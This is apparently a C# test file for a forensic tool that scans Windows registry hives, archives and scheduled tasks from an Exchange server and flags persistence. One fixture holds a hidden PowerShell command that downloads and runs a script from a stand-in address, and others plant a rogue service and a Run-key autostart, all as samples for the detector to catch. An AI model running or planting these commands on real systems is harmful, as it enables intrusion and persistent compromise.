using System.IO.Compression;
using System.Text;
using System.Text.Json;
using Breakwater.Tests.Hives;

namespace Breakwater.Cli.Tests;

/// <summary>Hives, exports and task definitions through the whole program.</summary>
public sealed class RegistryTest
{
    [Fact]
    public void CleanHives_GiveFactsAndNoVerdict()
    {
        using var folder = new TemporaryFolder();
        Write(folder, "evidence/C/Windows/System32/config/SYSTEM", HiveWriter.Write(MadeUpHives.System()));
        Write(folder, "evidence/C/Windows/System32/config/SOFTWARE", new HiveWriter { IsDirty = true }.Of(MadeUpHives.Software()));
        Write(folder, "evidence/C/Windows/System32/config/SYSTEM.LOG1", [.. "regf"u8, .. new byte[24], 6, 0, 0, 0, .. new byte[600]]);
        var run = CommandLine.Run("assess", folder.At("evidence"), "--json");
        var assessment = Schema.AssertAssessment(run.Output);
        var server = assessment.GetProperty("server");
        Assert.Equal(("EXCH01", "exch01.contoso.example", @"C:\Program Files\Microsoft\Exchange Server\V15\"), (Text(server, "name"), Text(server, "fqdn"), Text(server, "installPath")));
        Assert.Equal("Windows Server 2016 Standard (build 14393.4283)", Text(server, "os"));
        var facts = server.GetProperty("facts").EnumerateArray().Select(f => $"{Text(f, "name")}={Text(f, "value")}").ToList();
        Assert.Superset(
            new HashSet<string> { "update-installed=KB5000871", "service-start=MSExchangeUM: automatic", "suppress-extended-protection=0", "time-zone=W. Europe Standard Time", "role=Mailbox", "dotnet-release=528049" },
            facts.ToHashSet());
        Assert.Empty(assessment.GetProperty("findings").EnumerateArray());
        var unread = assessment.GetProperty("unread").EnumerateArray().Select(u => Text(u, "reason")).ToList();
        Assert.Contains("HIVE003", Assert.Single(unread), StringComparison.Ordinal);
        Assert.Equal(["registry"], assessment.GetProperty("coverage").EnumerateArray().Select(c => Text(c, "source")).Where(s => s == "registry"));
    }

    [Fact]
    public void IntrudersService_InAnArchive_IsCompromised()
    {
        using var folder = new TemporaryFolder();
        var system = MadeUpHives.System();
        MadeUpHives.Service(system, "msupdate", @"C:\Windows\Temp\m.exe");
        var archive = folder.At("evidence.zip");
        using (var zip = ZipFile.Open(archive, ZipArchiveMode.Create))
        {
            using var entry = zip.CreateEntry("C/Windows/System32/config/SYSTEM").Open();
            entry.Write(HiveWriter.Write(system));
        }

        var run = CommandLine.Run("assess", archive, "--json");
        Assert.Equal(14, run.ExitCode);
        var finding = Assert.Single(Schema.AssertAssessment(run.Output).GetProperty("findings").EnumerateArray());
        Assert.Equal(("autostarts", "persistence", "high", "2021-03-03T05:12:38.0000000Z"), (Text(finding, "rule"), Text(finding, "rung"), Text(finding, "confidence"), Text(finding, "time")));
    }

    [Fact]
    public void TaskDefinition_AndExportedText_AreRead()
    {
        using var folder = new TemporaryFolder();
        const string task = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><RegistrationInfo><Date>2021-03-04T01:02:03Z</Date></RegistrationInfo>"
            + "<Actions><Exec><Command>powershell.exe</Command><Arguments>-nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')</Arguments></Exec></Actions></Task>";
        Write(folder, "evidence/C/Windows/System32/Tasks/Update", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(task)]);
        const string export = "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"a\"=\"C:\\\\Users\\\\Public\\\\a.exe\"\r\n";
        Write(folder, "evidence/run.reg", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(export)]);
        var run = CommandLine.Run("assess", folder.At("evidence"), "--json");
        Assert.Equal(14, run.ExitCode);
        var findings = Schema.AssertAssessment(run.Output).GetProperty("findings").EnumerateArray().Select(f => $"{Text(f, "confidence")} {f.GetProperty("source").GetProperty("artefact").GetString()}").Order(StringComparer.Ordinal);
        Assert.Equal(["high C:/Windows/System32/Tasks/Update", "medium run.reg"], findings);
    }

    private static string? Text(JsonElement element, string name) => element.GetProperty(name).GetString();

    private static void Write(TemporaryFolder folder, string relative, byte[] bytes)
    {
        folder.Write(relative, "");
        File.WriteAllBytes(folder.At(relative.Split('/')), bytes);
    }
}
